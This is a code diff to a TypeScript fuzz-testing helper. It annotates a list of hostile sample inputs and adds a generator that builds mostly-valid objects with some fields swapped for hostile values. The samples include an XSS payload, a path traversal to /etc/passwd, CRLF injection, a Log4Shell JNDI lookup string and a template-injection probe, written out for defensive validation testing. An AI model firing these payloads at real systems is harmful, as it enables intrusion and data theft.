@@ -15,6 +15,7 @@ const SAMPLES = [
   '<img src=x onerror=alert(1)>',
   '../../../../etc/passwd',
   '%00%0d%0a',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
   '${jndi:ldap://example.com/a}',
   '{{7*7}}',
   '\u202eevil',
@@ -73,3 +74,23 @@ export const fuzzParameters = (numRuns: number): fc.Parameters<unknown> => ({
   seed: Number(process.env.FUZZ_SEED ?? 20261121),
   numRuns: Number(process.env.FUZZ_RUNS ?? numRuns),
 });
+
+/**
+ * An object built from a valid one: each field kept, made hostile, or left out, so a useful share
+ * of the inputs is accepted and the rules are tested on both sides.
+ */
+export function mostlyValid(valid: Record<string, unknown>) {
+  const field = (value: unknown) =>
+    fc.oneof(
+      { weight: 12, arbitrary: fc.constant({ value }) },
+      { weight: 2, arbitrary: hostileValue.map((hostile) => ({ value: hostile })) },
+      { weight: 1, arbitrary: fc.constant(null) },
+    );
+  return fc
+    .record(Object.fromEntries(Object.entries(valid).map(([key, value]) => [key, field(value)])))
+    .map((fields) =>
+      Object.fromEntries(
+        Object.entries(fields).flatMap(([key, kept]) => (kept ? [[key, kept.value]] : [])),
+      ),
+    );
+}
